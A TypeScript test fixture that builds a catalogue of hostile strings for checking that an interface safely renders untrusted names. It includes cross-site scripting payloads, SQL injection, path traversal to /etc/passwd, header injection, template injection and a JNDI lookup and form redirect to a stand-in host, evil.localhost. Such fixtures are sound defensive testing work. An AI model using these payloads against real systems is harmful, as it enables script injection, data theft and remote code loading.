/** A script that runs records the slot it came from. */
const script = 'window.__pwn=1'

const tags = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'input autofocus onfocus',
  'video src=x onerror',
]
const breaks = [
  '',
  '">',
  "'>",
  '</span>',
  '</button>',
  '</style>',
  '</title>',
  ']]>',
  '--><!-- -->',
  '`>',
]

const markup = breaks.flatMap((before) => tags.map((tag) => `${before}<${tag}=${script}>`))

const scripts = ['</script>', '', '"/>', '<!--', '<![CDATA['].map(
  (before) => `${before}<script>${script}</script>`,
)

const urls = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\nscript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="',
  'blob:https://evil.localhost/',
  'http://evil.localhost/',
  'https://evil.localhost/',
  '//evil.localhost/',
  'file:///etc/passwd#',
].map((scheme) => `${scheme}${script}`)

const foreign = [
  `<math><mtext></mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${script}>">`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></foreignObject></svg>`,
  `<template shadowrootmode=open><script>${script}</script></template>`,
  `<object data="javascript:${script}">`,
  `<embed src="javascript:${script}">`,
  `<base href="https://evil.localhost/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.localhost/">`,
  `<link rel=stylesheet href="https://evil.localhost/x.css">`,
  `<form action="https://evil.localhost/"><button>x</button></form>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${script}'/></svg>#x">`,
  `<svg><a xlink:href="javascript:${script}"><text y="20">x</text></a></svg>`,
  `<marquee onstart=${script}>`,
]

const styles = [
  '}*{background:url(https://evil.localhost/x)}',
  'expression(alert(1))',
  '</style><style>@import "https://evil.localhost/x.css"',
  'red;background:url(javascript:1)',
]

const templates = [
  `{{constructor.constructor("${script}")()}}`,
  `\${${script}}`,
  `#{${script}}`,
  `<%= ${script} %>`,
  '{name}',
  '%s%n%x',
]

const trickyCharacters = [
  '\u202eteltek\u202c',
  '\u2066\u2067\u2068turned\u2069',
  '\u200b\u200c\u200d\ufeffnothing',
  'a\u0000b\u0007c\u001b[31md',
  '\ud800',
  '\udfff\ud800',
  'Z̸̧̛'.repeat(60),
  'ﷺ﷽'.repeat(40),
  '🏴‍☠️'.repeat(50),
  'W'.repeat(10_000),
  'x '.repeat(50_000),
  'M'.repeat(1 << 20),
  '\n\r\t'.repeat(50),
]

const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'NaN',
  'null',
  'undefined',
  '-0',
  '1e999',
  '0x0',
]

const queries = [
  "' OR 1=1 --",
  '"; DROP TABLE tokens; --',
  '../../../etc/passwd',
  '%00%0d%0aSet-Cookie:x=1',
  `\${jndi:ldap://evil.localhost/a}`,
  '\\u003cscript\\u003e',
  '&lt;script&gt;',
  '&#x3C;img src=x&#x3E;',
]

/** Strings that an attacker could use as a name. */
export const hostileStrings: readonly string[] = [
  ...markup,
  ...scripts,
  ...urls,
  ...foreign,
  ...styles,
  ...templates,
  ...trickyCharacters,
  ...names,
  ...queries,
]

/**
 * A Latin square of strings and slots: entry `stringIndex` has a different string in each slot, and over all entries
 * every slot gets every string.
 */
export function hostileString(stringIndex: number, slotIndex: number, slot: string): string {
  const at = (stringIndex + slotIndex * 7) % hostileStrings.length
  return (hostileStrings[at] ?? '').replaceAll('__pwn=1', `__pwn='${slot}'`)
}
